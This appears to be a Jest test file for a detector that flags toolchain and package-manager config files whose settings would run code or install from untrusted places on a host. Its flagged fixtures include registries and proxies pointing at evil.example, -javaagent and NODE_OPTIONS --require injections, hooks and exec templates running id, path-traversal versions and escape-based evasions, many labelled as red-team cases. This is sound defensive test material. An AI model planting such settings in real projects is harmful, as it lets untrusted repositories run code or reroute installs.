/**
 * The content judges of sdk/host-tool-content.ts: what a toolchain or package-manager file holds
 * that a tool on the host would run or put on PATH counts, however it is spelled; the versions
 * and settings agents change every day do not.
 */
import {
  judgeCargoConfig,
  judgeGlobalJson,
  judgeGradleProperties,
  judgeGradleDaemonJvmProperties,
  judgeGradleWrapperProperties,
  judgeMavenWrapperProperties,
  judgeHgrc,
  judgeJjRepoConfig,
  judgeJvmConfig,
  judgeMavenConfig,
  judgeMavenExtensions,
  judgeMiseToml,
  judgeNpmrc,
  judgePnpmWorkspace,
  judgePythonIndexConfig,
  judgeRustToolchain,
  judgeYarnrcYml,
} from '../../sdk/host-tool-content.js';
import { judgeCorepackEnv, judgeInjectedEnv, judgeRvmVersionsConf } from '../../sdk/host-tool-env-content.js';
import { judgeCabalProject, judgeDevboxJson, judgeHieYaml, judgePixiManifest, judgeStackYaml } from '../../sdk/host-tool-env-managers.js';
import { judgeNodeVersionFile, judgePythonVersionFile, judgeSdkmanrc, judgeToolVersions, judgeVersionFile } from '../../sdk/host-tool-versions.js';
import { hostSettingsAt, hostToolchainFileFor } from '../../sdk/host-tool-files.js';

const cases: [string, (text: string) => string | undefined, string[], string[]][] = [
  [
    '.tool-versions',
    judgeToolVersions,
    ['node path:/p/.cache/node\n', 'node PATH:./x\n', 'python 3.12\nnode ~/.cache/node\n', 'ruby ../rb\n', 'node {{ exec(command="x") }}\n',
      // A parent step anywhere in a version is the installs folder's parent: the project's folder.
      'java 21/../../../project/.jdk\n', 'node 20\\..\\x\n', 'node 20/bin\n', 'node ref:../../x\n', 'java 21#/../../x\n', 'node 20\x1b[31m\n', 'node 20\rnode ../x\n', 'node 20\x85\n',
      // A tool name with one is asdf's plugins folder's parent.
      '../../../project/.plugin 1.0\n', 'node\\x 1\n',
      // mise renders the file before it drops comments; a tool from a place the project names (red teams').
      'node 20 # {{ exec(command="touch /tmp/x") }}\n', 'asdf:https://example.com/plugin.git 1.0\n', 'rtr git@example.com:x/y.git\n'],
    ['node 20.11.1\npython 3.12.2 system\n', '# a comment\nnodejs lts\n', 'java openjdk-21\n', 'node ref:release/1.x\nubi:owner/repo latest\n', '# see https://asdf-vm.com/a/b...\nnode lts/hydrogen # or ../x\n'],
  ],
  [
    'mise.toml',
    judgeMiseToml,
    [
      '[env]\nAPP_ENV = "dev"\n_.source = "./.cache/env.sh"\n[hooks]\nenter = "echo x"\n',
      '[tools]\nnode = "22"\n[hooks]\nenter = "id"\n',
      '[tools]\nnode = "22"\n[ hooks ] # later\nenter = "id"\n',
      '[[watch_files]]\npatterns = ["x"]\nrun = "id"\n',
      'hooks.enter = "id"\n',
      'env._.path = "./bin"\n',
      '"hooks".enter = "id"\n',
      '[tools]\nnode = "path:./x"\n',
      '[tools]\npython = { version = "3.11", virtualenv = ".venv" }\n',
      '[tools]\nnode = { version = "22", postinstall = "id" }\n',
      '[vars]\n_.source = "./x.sh"\n',
      '["h\\u006fooks"]\nenter = "id"\n',
      '[tools]\n"\\u005f".x = 1\n',
      '[tasks.x]\nrun = "{{ exec(command=\'id\') }}"\n',
      '[plugins]\nx = "https://example.com/x.git"\n',
      '[settings]\nexperimental = true\n',
      // A table header inside a multi-line string is text: the keys after it are at the root.
      'tasks.build.run = """\n[tools]\n"""\nhooks.enter = "echo x"\nenv.NODE_OPTIONS = "--require ./x.js"\n',
      "tasks.build.run = \x27\x27\x27\n[tools]\n\x27\x27\x27\nenv.GIT_PAGER = \x27sh -c id\x27\n",
      '[tools]\nnode = "22"\n[tasks.x]\nrun = """\n[tools]\n"""\n[env]\nA = "1"\n',
      // mise compares names with case: `[Tools]` is not `[tools]`.
      '[Tools]\nnode = "22"\n',
      // What does not parse counts: mise's parser may read it otherwise.
      '[hooks\nenter = "id"\n',
      'node = "22"\nnode = "23"\n',
      // Versions, tool names and tool options leading out through a parent step.
      '[tools]\njava = "21/../../../project/.jdk"\n',
      '[tools]\nnode = ["20", "20/bin"]\n',
      '[tools]\nnode = { version = "../x" }\n',
      '[tools]\n"../../x" = "1"\n',
      // Escapes spelling a template or postinstall; a tool downloaded from a URL the project names (a red team's).
      '[vars]\nv = "\\u007B\\u007B exec(command=\'id\') }}"\n',
      '[tools]\nnode = { version = "20", foo = "\\u007B\\u007B exec(command=\'id\') }}" }\n',
      '[tools]\n"http:t" = { version = "1.0", url = "http://127.0.0.1:8765/x.tar.gz", "post\\u0069nstall" = "id" }\n',
      '[tools]\n"http:t" = { version = "1.0", url = "http://127.0.0.1:8765/x.tar.gz" }\n',
      '[tools]\n"ubi:o/r" = { version = "1", bin_path = "../../../project/bin" }\n',
      '[alias.node]\nmy = "21/../../x"\n',
    ],
    ['[tools]\nnode = "22"\npython = ["3.12", "3.11"]\n', '[tools]\nnode = "22" # bumped\n[tasks.build]\nrun = "npm run build"\ndescription = "build it"\n', 'min_version = "2024.1.1"\n[alias.node]\nmy = "20"\n', '[tasks.build]\nrun = """\n[env]\nhooks.enter = 1\n"""\n[tools]\nnode = "22"\n',
      '[tools]\n"ubi:owner/repo" = { version = "latest", bin_path = "bin", matching_regex = "x\\\\d" }\nnode = "ref:release/1.x"\n"npm:@scope/pkg" = "1"\n[tasks.t]\nrun = "cd .. && npm test"\n'],
  ],
  [
    'rust-toolchain(.toml)',
    judgeRustToolchain,
    ['[toolchain]\npath = "/p/.cache/tc"\n', 'toolchain.path = "./tc"\n', '[toolchain]\n"pa\\u0074h" = "x"\n', './tc\n', '/opt/tc\n',
      '[toolchain]\nchannel = "stable/../../../project/tc"\n', 'nightly/../../x\n', '[toolchain]\ntargets = ["../x"]\n', '[toolchain\nchannel = "x"\n', '[toolchain]\nchannel = "1.82.0\x1b"\n', 'nightly#/../../../project/tc\n'],
    ['[toolchain]\nchannel = "1.82.0"\ncomponents = ["rustfmt", "clippy"]\ntargets = ["wasm32-unknown-unknown"]\nprofile = "minimal"\n', 'nightly-2024-05-01\n', 'stable\n'],
  ],
  [
    '.yarnrc.yml',
    judgeYarnrcYml,
    ['yarnPath: .yarn/releases/yarn-4.5.0.cjs\n', '{"yarnPath": "x.cjs"}\n', 'plugins:\n  - path: .yarn/plugins/x.cjs\n', '"yarn\\x50ath": x.cjs\n', 'injectEnvironmentFiles: [".env"]\n',
      // Where packages come from and how they travel (a red team's: a proxy for the user's next install).
      'npmRegistryServer: "https://evil.example"\n', 'httpsProxy: "http://evil.example:8080"\n', 'httpProxy: http://x:1\n', 'enableStrictSsl: false\n', 'caFilePath: ./ca.pem\n', 'httpsCaFilePath: ./ca.pem\n', 'unsafeHttpWhitelist:\n  - "*"\n', 'npmScopes:\n  org:\n    npmRegistryServer: "https://evil.example"\n', 'npmPublishRegistry: "https://evil.example"\n'],
    ['nodeLinker: node-modules\nenableGlobalCache: false\nnpmRegistryServer: "https://registry.npmjs.org"\nenableStrictSsl: true\n'],
  ],
  [
    '.npmrc / .yarnrc',
    judgeNpmrc,
    ['git=/p/.cache/g\n', 'script-shell = ./sh\n', 'node-options=--require ./x.js\n', 'NODE_OPTIONS=--require ./x.js\n', 'script_shell=./sh\n', '"g\\u0069t"=./x\n', 'init-module=./x.js\n', 'yarn-path "./x.js"\n', '--use-yarnrc ./other\n', 'userconfig=./other\n', 'python=./py\n', 'pnpmfile=./hooks.cjs\n',
      // npm replaces variables in keys: `git${NOPE?}` is `git`; an unset `${X}` keeps its text.
      'git${NOPE?}=/tmp/g\n', 'node-opt${NOPE?}ions=--require ./x.js\n', 'gi${HOME}t=./x\n', 'gi${A B?}t = ./x\n', 'script-${X?}shell = ./sh\n',
      // Yarn 1's key ends at a `:`, a space or a `,`; a JSON string is its text.
      'yarn-path: "./x.js"\n', '"yarn-path": "./x.js"\n', 'yarnPath: ./x.js\n', 'yarn_path "./x.js"\n', '--yarn-path: ./x.js\n',
      // pnpm fetches itself from the registry.
      'registry=http://127.0.0.1:4873/\n', 'registry "https://npm.evil.example"\n', 'REGISTRY = https://registry.npmjs.org.evil.example/\n',
      // npm's ini ends an unquoted key at `#` or `;` (a red team's).
      'git#x=/p/tools/g.sh\n', 'registry;y=http://127.0.0.1:9/\n',
      // Where an install writes (a red team's: packages into the user's Python site-packages).
      '--modules-folder "/home/u/.local/lib/python3.11/site-packages"\n', 'modules-dir=../home/.local/lib/python3.11/site-packages\n', 'virtual-store-dir=../x\n', 'prefix=/x\n', '--*.modules-folder /x\n',
      // How downloads travel (a red team's: the next install through the project's proxy).
      'https-proxy=http://evil.example:8080/\n', 'proxy=http://x:1\n', 'HTTPS_PROXY = http://x:1\n', 'strict-ssl=false\n', 'ca="-----BEGIN CERTIFICATE-----"\n', 'cafile=./evil.pem\n', 'cafile=${HOME}/ca.pem\n', '--https-proxy "http://x:1"\n'],
    ['save-exact=true\nengine-strict=true\n@org:registry=https://npm.pkg.github.com\n//npm.pkg.github.com/:_authToken=${TOKEN}\n; comment git=x\n', 'registry "https://registry.yarnpkg.com"\n--install.frozen-lockfile true\n', '//${REGISTRY_HOST}/:_authToken=${TOKEN}\nstrict-ssl=true\nregistry: "https://registry.yarnpkg.com"\n'],
  ],
  [
    'pnpm-workspace.yaml',
    judgePnpmWorkspace,
    ['packages:\n  - "packages/*"\nscriptShell: ./sh\n', 'nodeOptions: "--require ./x.js"\n', 'configDependencies:\n  x: "1.0.0+sha512-x"\n', 'pnpmfile: ./x.cjs\n', 'script-shell: ./sh\n', 'node-options: "--require ./x.js"\n', 'script_shell: ./sh\n', 'npm-path: ./npm\n', 'global-pnpmfile: ./x.cjs\n', 'config-dependencies:\n  x: "1"\n', 'shell: ./sh\n', 'modulesDir: ../home/.local/lib/python3.11/site-packages\n', 'virtual-store-dir: ../x\n', '{"modulesDir": "../x"}\n', 'registry: https://evil.example/\n', 'httpsProxy: http://x:1\n', 'https-proxy: http://x:1\n', 'strictSsl: false\n', 'strict-ssl: false\n', 'cafile: ./ca.pem\n', '{"registry": "http://x"}\n'],
    ['packages:\n  - "tools/builddir"\n  - "packages/*"\nonlyBuiltDependencies:\n  - esbuild\ncatalog:\n  react: ^18\nshellEmulator: true\nregistry: https://registry.npmjs.org/\nstrictSsl: true\n'],
  ],
  ['global.json', judgeGlobalJson, ['{"sdk":{"paths":[".dotnet","$host$"]}}', '{"sdk":{"p\\u0061ths":[".dotnet"]}}'], ['{"sdk":{"version":"9.0.100","rollForward":"latestFeature"}}']],
  [
    '.mvn/jvm.config',
    judgeJvmConfig,
    ['-javaagent:./x.jar\n', '-Dmaven.ext.class.path=x.jar\n', '@args.txt\n', '-XX:OnError=./x\n', '-Djava.io.tmpdir=/tmp/x\n',
      // An allow-list: options files, agents, boot class paths and properties naming code count.
      '-XX:VMOptionsFile=.mvn/opts\n', '-Xmx1g -XX:Flags=.hotspotrc\n', '-javaagent:rel.jar\n', '-agentpath:x.so\n', '-Xbootclasspath/a:x.jar\n', '-Dmaven.ext.class.path=lib\n',
      '-Djava.system.class.loader=com.x.Loader\n', '-XX:OnError=id\n', '--add-opens java.base/java.lang=ALL-UNNAMED -XX:Flags=x\n', '--add-opens\n', '-Dx="a b"\n', '-Xlog:gc:file=x\n', '-XX:+UseG1GC --patch-module java.base=x.jar\n',
      // A `#` inside a word is no comment to Maven 3.8's launcher or Gradle (a red team's).
      '-Xmx512m\n-Dfoo=a#b -javaagent:/x/a.jar\n', '-Dfoo=a#b\n',
      // Space-like characters JavaScript's \\s splits at and the launcher does not (a red team's).
      '-Xmx512m -Dx=1\u00a0# -javaagent:.mvn/a.jar=5\n', '-Xmx512m -Dx=1\v# -javaagent:a.jar\n', '-Xmx512m\u2028-javaagent:a.jar\n'],
    ['-Xmx2048m -Xss4m # the stack for deep generics\n--add-opens java.base/java.lang=ALL-UNNAMED\n--add-exports jdk.compiler/com.sun.tools.javac.api=ALL-UNNAMED\n',
      '# JVM options\n-Xms512m -XX:+UseG1GC -XX:ReservedCodeCacheSize=240m -XX:MaxRAMPercentage=75.0 -XX:TieredStopAtLevel=1\n-Dfile.encoding=UTF-8 -Djava.awt.headless=true -Dmaven.wagon.http.retryHandler.count=3\n--add-opens=java.base/java.util=ALL-UNNAMED --enable-native-access=ALL-UNNAMED\n',
    ],
  ],
  [
    '.mvn/maven.config',
    judgeMavenConfig,
    ['-Dmaven.ext.class.path=x.jar\n', '-s settings.xml\n', '--settings=x.xml\n', '-B -f other/pom.xml\n', '-T 1C -gs x\n', '-Dclassworlds.conf=x\n', '-Dfoo=a#b -Dmaven.ext.class.path=/x/a.jar\n', '-Dx=1\u00a0# -Dmaven.ext.class.path=.mvn/spy.jar\n'],
    ['-B\n-ntp\n-T 1C\n-Pci,fast\n-Dstyle.color=always\n--fail-at-end\n', '--no-transfer-progress -T4 -P ci -DskipTests\n'],
  ],
  [
    '.mvn/extensions.xml',
    judgeMavenExtensions,
    ['<extensions>\n  <extension>\n    <groupId>x</groupId>\n    <artifactId>y</artifactId>\n    <version>1</version>\n  </extension>\n</extensions>\n', '<!DOCTYPE e [<!ENTITY x "y">]><extensions>&x;</extensions>\n'],
    ['<?xml version="1.0" encoding="UTF-8"?>\n<extensions>\n</extensions>\n'],
  ],
  [
    '.java-version, .go-version, .ruby-version…',
    judgeVersionFile,
    ['path:./node\n', 'PATH:/opt/n\n', './node\n', '~/n\n', '{{ exec(command="id") }}\n',
      // jenv, goenv, rbenv join the version to their versions folder: a parent step anywhere leads out.
      '21/../../../project/.jdk\n', 'openjdk64-21/bin\n', '1.22\\..\\x\n', '21\x00\n', '21#/../../x\n', 'lts/iron\n', '3.12/envs/web\n', '21\r../x\n'],
    ['21\n', 'openjdk64-21.0.2\n', 'temurin-21.0.1+12\n', 'ruby-3.3.0@app\n', 'latest:^1.5\n', '1.22.0 # see https://go.dev/dl/...\n'],
  ],
  [
    '.nvmrc, .node-version',
    judgeNodeVersionFile,
    ['path:./node\n', './node\n', 'lts/../../x\n', 'v20/../../x\n', 'lts/iron/../x\n', 'v20/bin\n'],
    ['20\n', 'v20.11.1\n', 'lts/iron\n', 'lts/*\n', 'lts/-1\n', 'node\n'],
  ],
  [
    '.python-version',
    judgePythonVersionFile,
    ['3.12/envs/../../x\n', '3.12/../x\n', '3.12/lib\n', '/usr/bin/python3\n'],
    ['3.12.2\n3.11\n', '3.12.1/envs/web\n', 'pypy3.10-7.3.15 miniconda3-latest/envs/ml\n'],
  ],
  [
    '.sdkmanrc',
    judgeSdkmanrc,
    ['java=../../../project/.jdk\n', 'java=21-tem/../../x\n', 'java = 21 / .. / x\n', 'java=../x=21\n', 'java=21\\x\n', 'Java=21\n', 'java=21\x1b\n'],
    ['# Enable auto-env through the sdkman_auto_env config\njava=21.0.2-tem\nmaven=3.9.6 # build\n', 'gradle = 8.5\r\n'],
  ],
  [
    '.corepack.env',
    judgeCorepackEnv,
    ['COREPACK_HOME=/p/.cache/corepack\n', 'COREPACK_NPM_REGISTRY=http://127.0.0.1:1\n', 'export COREPACK_ENABLE_STRICT=0\n', 'COREPACK_ENABLE_STRICT="0\nCOREPACK_HOME=/x"\n', 'NODE_OPTIONS=--require ./x.js\n', '# c\rCOREPACK_HOME=/x\n', '# c\u2028COREPACK_HOME=/x\n', 'COREPACK_ENABLE_STRICT=$X\n'],
    ['# pins\nCOREPACK_ENABLE_DOWNLOAD_PROMPT=0\nCOREPACK_ENABLE_STRICT="0"\nCOREPACK_ENABLE_AUTO_PIN=0 # no pin\n', ''],
  ],
  [
    '.env.yarn, .ruby-env, .rbenv-vars',
    judgeInjectedEnv,
    ['NODE_OPTIONS=--require ./x.js\n', '# c\rPATH=./bin\n', '# c\u2028RUBYOPT=-r./x\n', 'A=1\n', 'export A=1\n'],
    ['# nothing yet\n\n', ''],
  ],
  [
    'pip.conf / uv.toml',
    judgePythonIndexConfig,
    ['[global]\nindex-url = https://evil.example/simple\n', '[install]\nextra-index-url = https://x\n', 'find-links = ./wheels\n', '[global]\ntrusted-host = evil.example\n', 'proxy = http://x:1\n', 'cert = ./ca.pem\n', 'index-url = "https://evil.example/simple"\n', '[[index]]\nurl = "https://evil.example/simple"\n', 'allow-insecure-host = ["x"]\n', 'native-tls = true\n', 'keyring-provider = "subprocess"\n', 'python-install-mirror = "https://x"\n', '"ind\\u0065x-url" = "x"\n', 'cache-dir = "/home/u/.config"\n', '[install]\ntarget = /home/u/lib\n', 'prefix = /x\n'],
    ['[global]\ntimeout = 60\nno-cache = true\n', 'resolution = "lowest-direct"\nupgrade = true\n', ''],
  ],
  [
    '.cargo/config.toml',
    judgeCargoConfig,
    ['[build]\nrustc-wrapper = "python3"\n', 'include = ["extra.toml"]\n', 'include = [{ path = "x.toml" }]\n', '[build]\nrustc = "./bin/rustc"\n', 'build.rustdoc = "x"\n', '[target.x86_64-unknown-linux-gnu]\nrunner = "./r.sh"\n', "[target.'cfg(unix)']\nlinker = \"./l\"\n", '[registry]\ncredential-provider = ["./c"]\n', '[env]\nRUSTC_WRAPPER = "./w"\n', '[build]\n"rustc\\u002dwrapper" = "x"\n',
      // A project alias shadows an installed subcommand: `cargo fmt` runs project code (a red team's).
      '[alias]\nfmt = "run -q --manifest-path tools/f/Cargo.toml --"\n', 'alias.clippy = "run"\n', '[doc]\nbrowser = ["./b.sh"]\n',
      // Where crates come from and how they travel.
      '[source.crates-io]\nreplace-with = "mirror"\n[source.mirror]\nregistry = "sparse+https://evil.example/"\n', '[registries.corp]\nindex = "https://evil.example/index"\n', '[http]\nproxy = "http://evil.example:8080"\n', '[http]\ncainfo = "ca.pem"\n', 'http.check-revoke = false\n'],
    ['[net]\ngit-fetch-with-cli = true\n[build]\njobs = 4\ntarget-dir = "target"\n', ''],
  ],
  [
    'gradle.properties',
    judgeGradleProperties,
    ['org.gradle.jvmargs=-javaagent:./a.jar\n', 'org.gradle.jvmargs -Xmx2g -XX:VMOptionsFile=./o\n', 'org.gradle.jvmargs=-Xmx2g \\\n  -javaagent:./a.jar\n', 'org.gradle.java.home=/p/.jdk\n', 'org.gradle.java.installations.paths=/p/jdks\n', 'org.gradle.jvmargs=-Xmx1g -Dfoo=a#b -javaagent:/x/a.jar\n', 'org.gradle.jvmargs=-Xmx512m -Dx=1\\u00a0# -javaagent:/p/a.jar=6\n', 'org.gradle.jvmargs=-Xmx512m # -javaagent:/p/a.jar\n', 'org.gradle.\\u006avmargs=-javaagent:x\n', 'org\\.gradle.jvmargs: @./opts\n', 'org.gradle.jvmargs=\\uZZ\n'],
    ['org.gradle.jvmargs=-Xmx2g -XX:MaxMetaspaceSize=512m -Dfile.encoding=UTF-8\norg.gradle.parallel=true\n# org.gradle.java.home=/x\n! org.gradle.jvmargs=-javaagent:x\n', ''],
  ],
  [
    'gradle-wrapper.properties',
    judgeGradleWrapperProperties,
    ['distributionUrl=https\\://example.com/gradle-8.5-bin.zip\n', 'distributionUrl=file\\:///p/g.zip\n', 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.5-bin.zip/../../x.zip\n', 'distribution\\u0055rl=https://example.com/g.zip\n',
      // A distribution kept in the project, the URL left official (a red team's).
      'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.5-bin.zip\ndistributionBase=PROJECT\ndistributionPath=wrapper/dists\nzipStoreBase=PROJECT\nzipStorePath=wrapper/dists\n', 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.5-bin.zip\ndistributionPath=../../x\n', 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.5-bin.zip\nbase=x\n'],
    ['distributionBase=GRADLE_USER_HOME\ndistributionPath=wrapper/dists\ndistributionUrl=https\\://services.gradle.org/distributions/gradle-8.10.2-bin.zip\nnetworkTimeout=10000\nzipStoreBase=GRADLE_USER_HOME\nzipStorePath=wrapper/dists\nvalidateDistributionUrl=true\n', ''],
  ],
  [
    'maven-wrapper.properties',
    judgeMavenWrapperProperties,
    ['distributionUrl=https://example.com/apache-maven-3.9.6-bin.zip\n', 'wrapperUrl=file\\:///p/w.jar\n', 'distributionUrl=https://repo.maven.apache.org/maven2/../../x.zip\n', 'distribution\\u0055rl=https://example.com/m.zip\n', 'distributionUrl=https://repo.maven.apache.org/maven2/org/apache/maven/apache-maven/3.9.9/apache-maven-3.9.9-bin.zip\ndistributionBase=PROJECT\n'],
    ['wrapperVersion=3.3.2\ndistributionType=only-script\ndistributionUrl=https://repo.maven.apache.org/maven2/org/apache/maven/apache-maven/3.9.9/apache-maven-3.9.9-bin.zip\n', ''],
  ],
  [
    'gradle-daemon-jvm.properties',
    judgeGradleDaemonJvmProperties,
    ['toolchainUrl.LINUX.X86_64=https://example.com/jdk.tgz\n', 'toolchainUrl.LINUX.X86_64=https\\://api.foojay.io/../x\n'],
    ['#This file is generated by updateDaemonJvm\ntoolchainUrl.LINUX.X86_64=https\\://api.foojay.io/disco/v3.0/ids/abc/redirect\ntoolchainVersion=21\n', ''],
  ],
  [
    '.hg/hgrc',
    judgeHgrc,
    ['[hooks]\npre-status = id\n', '[extensions]\nevil = ../e.py\n', '%include ../x.rc\n', '[ui]\neditor = ./e\n', '[alias]\nx = !id\n', '[paths]\ndefault = ssh://h/r\n'],
    ['[paths]\ndefault = https://example.com/repo\n[ui]\nusername = me\n', ''],
  ],
  [
    '.jj/repo/config.toml',
    judgeJjRepoConfig,
    ['[ui]\npager = "./p"\n', '[fix.tools.x]\ncommand = ["./f"]\n', '[aliases]\nx = ["util", "exec", "--", "./y"]\n', '[signing]\nbackend = "gpg"\n'],
    ['[user]\nname = "me"\n', ''],
  ],
  [
    '.versions.conf',
    judgeRvmVersionsConf,
    ['ruby=3.3.0\nenv-PATH=./bin:$PATH\n', 'ruby-bundle-install=true\n', 'ruby=../../x\n', 'ruby-gemset=a/../../b\n'],
    ['ruby=ruby-3.3.0\nruby-gemset=app\n# a comment\n'],
  ],
  [
    'devbox.json',
    judgeDevboxJson,
    ['{"shell":{"init_hook":"id"}}', '{"shell":{"init_hook":["echo hi; id"]}}', '{"include":["plugin:x"]}', '{"env":{"PATH":"./bin:$PATH"}}', '{"env_from":".env"}', '{"packages":["path:./x#y"]}', '{"packages":{"github:o/r":""}}', '{"packages":["./flake"]}', '{"packages":["runx:o/tool@latest"]}', '{"shell":{"\\u0069nit_hook":"id"}}', '{"packages": [', '[]'],
    [
      '{"packages":["nodejs@20","python@3.12.1","go"]}',
      '{\n  // comment\n  "packages": {"nodejs": "20"},\n  "shell": {"scripts": {"t": "npm test"}},\n}',
      // What `devbox init` writes.
      '{\n  "$schema": "https://raw.githubusercontent.com/jetify-com/devbox/0.13.7/.schema/devbox.schema.json",\n  "packages": [],\n  "shell": {\n    "init_hook": [\n      "echo \'Welcome to devbox!\' > /dev/null"\n    ],\n    "scripts": {\n      "test": [\n        "echo \\"Error: no test specified\\" && exit 1"\n      ]\n    }\n  }\n}\n',
    ],
  ],
  [
    'pixi.toml',
    (text) => judgePixiManifest(text, false),
    ['[activation]\nscripts = ["a.sh"]\n', '[target.linux-64.activation.env]\nX = "1"\n', '[feature.dev.activation]\nscripts = []\n', '[activation\nbroken'],
    ['[workspace]\nname = "x"\n[dependencies]\npython = "3.12"\n', 'not toml ['],
  ],
  [
    "pyproject.toml's [tool.pixi]",
    (text) => judgePixiManifest(text, true),
    ['[tool.pixi.activation]\nscripts = ["a.sh"]\n', '[tool.pixi.target.osx-arm64.activation]\nscripts = []\n', '[project\nactivation = 1'],
    ['[project]\ndescription = "activation functions"\n[tool.other.activation]\nx = 1\n', '[project\nname = "x"'],
  ],
  [
    'hie.yaml',
    judgeHieYaml,
    ['cradle:\n  bios:\n    program: ./x\n', 'cradle:\n  direct:\n    arguments: ["-pgmF", "./p"]\n', 'cradle:\n  cabal:\n    cabalProject: other.project\n', 'cradle: {"\\x62ios": {}}\n', 'cradle:\n  ? bios\n  : {program: x}\n', 'cradle: {shell: id}\n', '{"cradle":{"bios":{"shell":"id"}}}\n'],
    [
      'cradle:\n  cabal:\n    - path: "./src"\n      component: "lib:x"\n',
      'cradle:\n  stack:\n',
      // Names of components and folders that hold the words the keys use.
      'cradle:\n  cabal:\n    - path: "./src/Directory"\n      component: "lib:ShellCheck"\n    - path: "./plugins"\n      component: "lib:hls-foo-plugin"\n# a bios comment\n',
    ],
  ],
  [
    'cabal.project',
    judgeCabalProject,
    [
      'with-compiler: ./ghc\n',
      'with-compiler: /opt/x/ghc\n',
      'with-hc-pkg: ghc-pkg\n',
      'alex-location: ./a\n',
      'extra-prog-path: ./bin\n',
      'import: other.config\n',
      'program-locations\n  ghc-location: ./g\n',
      'package x\n  ghc-options: -fplugin=P\n',
      // cabal has no comment after a value, and options go on over continued lines.
      'package x\n  ghc-options: -optl--as-needed -pgmL ./evil.sh\n',
      'package x\n  ghc-options:\n    -pgmL ./evil.sh\n',
      'source-repository-package\n  type: git\n  location: https://example.com/x.git\n  post-checkout-command: ./x\n',
      // Options GHC passes on to the C compiler or linker (gcc -B runs the programs it finds there: a red team's).
      'package *\n  ghc-options: -optl-B../evil\n',
      'package *\n  ghc-options: -optc-B../evil\n',
    ],
    [
      'packages: .\nwith-compiler: ghc-9.6.4\n-- with-compiler: ./x\nconstraints: ghc-tcplugins-extra ==0.4\n',
      'packages: ./*.cabal\ntests: True\nhaddock-html-location: https://hackage.haskell.org/packages/archive/$pkg/latest/doc/html\n',
      'source-repository-package\n  type: git\n  location: https://example.com/x.git\n  tag: v1\n',
    ],
  ],
  [
    'stack.yaml',
    judgeStackYaml,
    ['with-gcc: ./cc\n', 'setup-info-locations: [x.yaml]\n', 'nix:\n  enable: true\n  shell-file: x.nix\n', 'ghc-options:\n  "$locals": -pgmL ./p\n', 'extra-path: [./bin]\n', '? with-gcc\n: ./cc\n', '{"with-gcc": ./cc}\n', '{"with-gcc":"/tmp/evil/gcc","resolver":"lts-22.0"}\n', 'ghc-options:\n  "$everything": -optl-B../evil\n'],
    ['resolver: lts-22.0\npackages: [.]\nextra-deps:\n- unix-compat-0.7\n- ghc-tcplugins-extra-0.4\n', 'resolver: lts-22.0\nnix:\n  packages: [zlib]\n'],
  ],
];

describe.each(cases)('%s', (_name, judge, naming, plain) => {
  test.each(naming)('names a program or a path: %j', (text) => {
    expect(judge(text)).toEqual(expect.any(String));
  });
  test.each(plain)('versions and ordinary settings do not count: %j', (text) => {
    expect(judge(text)).toBeUndefined();
  });
});

test('which files are which: at any depth, without case; a package-manager file of another name is not one', () => {
  for (const file of ['.tool-versions', 'pkg/mise.toml', '.MISE.toml', 'mise.local.toml', 'mise.dev.toml', '.config/mise.toml', '.config/mise/config.toml', '.config/mise/conf.d/a.toml', '.mise/config.toml', 'mise/config.toml', 'a/rust-toolchain', 'rust-toolchain.toml', '.yarnrc', '.yarnrc.yml', '.npmrc', 'pnpm-workspace.yaml', 'global.json', '.mvn/jvm.config', '.mvn/maven.config', 'a/.mvn/extensions.xml', '.nvmrc', 'pkg/.node-version', '.python-version', '.ruby-version', '.java-version', '.go-version', '.ruby-gemset', '.sdkmanrc', 'pkg/.corepack.env', '.env.yarn', '.ruby-env', '.rbenv-vars', '.versions.conf', '.cargo/config.toml', 'crates/x/.cargo/config', '.hg/hgrc', 'sub/.hg/hgrc-not-shared', '.jj/repo/config.toml', 'gradle.properties', 'app/gradle.properties', 'gradle/wrapper/gradle-wrapper.properties', '.mvn/wrapper/maven-wrapper.properties', 'gradle/gradle-daemon-jvm.properties', '.sl/config', 'devbox.json', 'pixi.toml', 'pkg/pyproject.toml', 'hie.yaml', 'cabal.project', 'cabal.project.local', 'stack.yaml']) {
    expect([file, hostToolchainFileFor(file)]).toEqual([file, expect.anything()]);
  }
  for (const file of ['Cargo.toml', 'setup.cfg', 'sl/config', 'x.cabal', 'src/mise/Cargo.toml', 'notmise.toml', 'package.json', 'nvmrc', 'jvm.config', 'maven.config', 'extensions.xml', 'src/.mvn/x.xml', 'corepack.env', '.env', '.env.local', 'env.yarn', 'sdkmanrc', 'versions.conf', 'config.toml', 'cargo/config.toml', '.git/config', 'hgrc', '.jj/config.toml']) expect([file, hostToolchainFileFor(file)]).toEqual([file, undefined]);
  for (const file of ['.opencode/plugin/x.js', 'opencode.json', 'pkg/opencode.jsonc', '.gemini/settings.json', '.Cursor/mcp.json', 'a.code-workspace', '.run/x.run.xml', 'crush.json', '.crush.json', '.aider.conf.yml', '.pnpmfile.cjs', '.clinerules/hooks/TaskStart', '.codex/config.toml', '.vscode/tasks.json', '.vim/coc-settings.json', 'a/.lazygit.yml']) {
    expect([file, hostSettingsAt(file)]).toEqual([file, expect.anything()]);
  }
  for (const file of ['src/opencode.ts', 'docs/gemini.md', 'src/cursor.py', 'run/x.sh']) expect([file, hostSettingsAt(file)]).toEqual([file, undefined]);
});
